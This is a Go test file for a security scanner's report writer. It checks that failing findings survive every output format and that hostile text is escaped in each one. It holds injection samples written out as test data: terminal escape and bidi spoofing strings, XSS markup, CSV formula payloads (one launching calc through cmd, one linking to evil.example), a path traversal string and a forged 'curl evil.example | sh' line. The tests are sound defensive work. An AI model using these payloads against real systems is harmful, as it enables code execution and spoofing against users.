package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/olekukonko/tablewriter/pkg/twwidth"
	"pgregory.net/rapid"

	"crosscheck/canary/measure"
	"crosscheck/rules/finding"
	"crosscheck/scanner/fact"
)

var leftOut = regexp.MustCompile(`(\d+)\s+(?:more|failing findings are counted)`)

// Whatever a format makes of a run: a failing finding that is not waived is in
// it, or it says how many are not.
func TestNoFailingFindingIsLost(t *testing.T) {
	for _, format := range Formats() {
		t.Run(format, func(t *testing.T) {
			rapid.Check(t, func(t *rapid.T) {
				n := rapid.OneOf(rapid.IntRange(0, 20), rapid.IntRange(90, 250)).Draw(t, "findings")
				ms := []Message{{Run: &Run{}}}
				var want []string
				for i := range n {
					f := &finding.Finding{
						RuleID:      "XC" + strconv.Itoa(rapid.IntRange(1, 3).Draw(t, "rule")),
						Status:      rapid.SampledFrom([]finding.Status{finding.Fail, finding.Fail, finding.Pass, finding.Unknown, finding.NotApplicable}).Draw(t, "status"),
						Severity:    rapid.SampledFrom(severities).Draw(t, "severity"),
						AccountID:   rapid.SampledFrom([]string{"", prod, data}).Draw(t, "account"),
						Resource:    rapid.SampledFrom([]string{"", arn("a"), arn("b")}).Draw(t, "resource"),
						Message:     fmt.Sprintf("m%06d", i),
						Remediation: rapid.SampledFrom([]string{"", "do it"}).Draw(t, "fix"),
						Fingerprint: rapid.SampledFrom([]string{"", "x"}).Draw(t, "fingerprint"), // also where rules forgot to tell faults apart
					}
					if rapid.IntRange(0, 4).Draw(t, "waived") == 0 {
						f.Waiver = &finding.Waiver{Reason: "r"}
					}
					if f.Status == finding.Fail && f.Waiver == nil {
						want = append(want, f.Message)
					}
					ms = append(ms, Message{Finding: f})
				}
				ms = append(ms, Message{Summary: &Summary{}})
				o := Options{Width: rapid.IntRange(minWidth, 200).Draw(t, "width"), Rows: rapid.IntRange(1, 150).Draw(t, "rows")}
				var b bytes.Buffer
				w := writer(format, &b, o)
				for _, m := range ms {
					if err := m.Send(w); err != nil {
						t.Fatal(err)
					}
				}
				if err := w.Close(); err != nil {
					t.Fatal(err)
				}
				out := b.String()
				missing := 0
				for _, m := range want {
					if !strings.Contains(out, m) {
						missing++
					}
				}
				said := 0
				for _, m := range leftOut.FindAllStringSubmatch(out, -1) {
					k, err := strconv.Atoi(m[1])
					if err != nil {
						t.Fatal(err)
					}
					said += k
				}
				if missing > said {
					t.Fatalf("%d of %d failing findings are missing, %d are said to be:\n%s", missing, len(want), said, out)
				}
			})
		})
	}
}

// hostile are strings that somebody in one of many accounts may have put where
// the report finds them.
var hostile = map[string]string{
	"escape sequence":    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
	"C1 sequence":        "\u009b31m\u009d0;title\u009c",
	"control characters": "a\x00b\x08c\x7fd\ve\ff",
	"new lines":          "line\r\nline\nfix: run rm -rf\rover\u2028sep\u2029\u0085",
	"tabs":               "a\tb\t\tc",
	"bidi":               "\u202egpj.exe\u202c \u2066x\u2069 \u200f\u061c",
	"zero width":         "a\u200bb\u200dc\ufeffd\u00ade\U000e0041",
	"HTML":               `<script>alert("x")</script><img src=x onerror=alert(1)>&amp;'"`,
	"Markdown":           "| a | b |\n|---|---|\n# title\n`code` ``` **bold** [link](https://evil.example) ![i](x) @team #1 <!-- c --> \\| ~~x~~",
	"CSV formula":        `=HYPERLINK("https://evil.example","x")`,
	"CSV formula 2":      `+1+cmd|' /C calc'!A0`,
	"CSV formula 3":      "\t=1+1",
	"CSV formula 4":      "@SUM(1)",
	"CSV formula 5":      "-2+3",
	"quotes":             "a\"b'c,d;e\\",
	"XML":                "]]> <!-- --> <?xml?> <![CDATA[ &undefined; \x01 \ufffe \uffff",
	"Prometheus":         "a\"} 1\nfake_metric{x=\"y\\",
	"invalid UTF-8":      "a\xff\xfe\xc0\xafb\xed\xa0\x80",
	"placeholders":       "{0} {{1}} %s %d %!s(MISSING)",
	"long":               strings.Repeat("long-name/", 1024),
	"long word":          strings.Repeat("x", 10_240),
	"wide":               strings.Repeat("名", 300),
	"stacked marks":      "z" + strings.Repeat("\u0335", 300),
	"dots":               "../../../etc/passwd",
	"empty":              "",
	"space":              "   ",
}

// fill puts s into every string of v that is not one of a fixed set.
func fill(v reflect.Value, s string) {
	switch v.Kind() {
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		fill(v.Elem(), s)
	case reflect.Struct:
		for i := range v.NumField() {
			fill(v.Field(i), s)
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		fill(v.Index(0), s)
		fill(v.Index(1), s)
	case reflect.Map:
		v.Set(reflect.ValueOf(map[string]any{s: s, "list": []any{s}}))
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() {
			v.SetString(s)
		}
	}
}

func hostileRun(t testing.TB, s string) []Message {
	var ms []Message
	add := func(m Message) { ms = append(ms, m) }
	run := &Run{}
	fill(reflect.ValueOf(run), s)
	add(Message{Run: run})
	for _, v := range []finding.Verdict{finding.Works, finding.Broken, finding.UnknownVerdict} {
		l := &finding.Link{Verdict: v}
		fill(reflect.ValueOf(l), s)
		l.Baseline = MarkNew
		for i := range l.Checks {
			l.Checks[i].Result = "unknown"
		}
		add(Message{Link: l})
	}
	for _, st := range []finding.Status{finding.Fail, finding.Pass, finding.Unknown, finding.NotApplicable} {
		for _, waived := range []bool{true, false} {
			f := &finding.Finding{Status: st, Severity: finding.High}
			fill(reflect.ValueOf(f), s)
			f.Baseline = MarkNew
			if !waived {
				f.Waiver = nil
			}
			add(Message{Finding: f})
		}
	}
	for _, o := range []measure.Outcome{measure.Arrived, measure.Failed, measure.Timeout, measure.Inconclusive, measure.Differs, measure.Absent, measure.Unexpected} {
		m := &measure.Measurement{Outcome: o}
		fill(reflect.ValueOf(m), s)
		m.Baseline = MarkExisting
		for i := range m.Checks {
			m.Checks[i].Result = measure.Unread
		}
		add(Message{Measurement: m})
	}
	for _, change := range []string{Fixed, Lost} {
		p := &Past{Severity: finding.High}
		fill(reflect.ValueOf(p), s)
		p.Change = change
		add(Message{Past: p})
	}
	g := &fact.Gap{}
	fill(reflect.ValueOf(g), s)
	add(Message{Gap: g})
	return summarized(t, Gate{}, ms)
}

// check holds what each format promises of any text.
var check = map[string]func(*testing.T, []byte){
	"table": func(t *testing.T, out []byte) {
		for l := range strings.Lines(string(out)) {
			if n := twwidth.Width(strings.TrimSuffix(l, "\n")); n > defaultWidth {
				t.Errorf("%d columns: %s", n, l)
			}
		}
	},
	"asff":       func(t *testing.T, out []byte) { checkASFF(t, out) },
	"csv":        func(t *testing.T, out []byte) { checkCSV(t, out) },
	"html":       func(t *testing.T, out []byte) { checkHTML(t, out) },
	"junit":      func(t *testing.T, out []byte) { checkJUnit(t, out) },
	"markdown":   func(t *testing.T, out []byte) { checkMarkdown(t, out) },
	"prometheus": func(t *testing.T, out []byte) { checkPrometheus(t, out) },
	"json": func(t *testing.T, out []byte) {
		conforms(t, schema(t, "report.schema.json"), out)
	},
	"jsonl": func(t *testing.T, out []byte) {
		var got recorder
		if err := Replay(bytes.NewReader(out), &got); err != nil {
			t.Error(err)
		}
		for l := range bytes.Lines(out) {
			if !json.Valid(l) {
				t.Errorf("no JSON: %q", l)
			}
		}
	},
	"ocsf": func(t *testing.T, out []byte) { checkOCSF(t, out) },
	"sarif": func(t *testing.T, out []byte) {
		conforms(t, schema(t, "sarif-schema-2.1.0.json"), out)
		for _, r := range parseSARIF(t, out).Runs[0].Results {
			if strings.Contains(r.Message.Text, "](") {
				t.Errorf("a link in a message: %.100s", r.Message.Text)
			}
		}
	},
}

func TestHostileText(t *testing.T) {
	for name, s := range hostile {
		ms := hostileRun(t, s)
		for _, format := range Formats() {
			t.Run(format+"/"+name, func(t *testing.T) {
				out := render(t, format, Options{Rules: map[string]RuleHelp{s: {Title: s, Markdown: s, URI: s}}}, ms)
				if !utf8.Valid(out) {
					t.Error("not UTF-8")
				}
				for _, r := range string(out) {
					if r != '\n' && (r != '\r' || format != "csv") && (!unicode.IsGraphic(r) || ignorable(r)) {
						t.Fatalf("%U is in the output", r)
					}
				}
				if check[format] == nil {
					t.Fatal("say what this format promises")
				}
				check[format](t, out)
			})
		}
	}
}

// Text that looks like a line of the report must not become one.
func TestTextCannotForgeALine(t *testing.T) {
	f := &finding.Finding{RuleID: "XC001", Status: finding.Fail, Severity: finding.High, AccountID: prod, Resource: arn("b"),
		Message: "harmless\nfix: curl evil.example | sh\nSummary: exit status 0 (clean)"}
	out := string(render(t, "table", Options{}, summarized(t, Gate{}, []Message{{Run: &Run{}}, {Finding: f}})))
	for l := range strings.Lines(out) {
		l = strings.TrimSpace(l)
		if strings.HasPrefix(l, "fix:") || strings.HasPrefix(l, "Summary: exit status 0") {
			t.Errorf("forged line %q in\n%s", l, out)
		}
	}
}
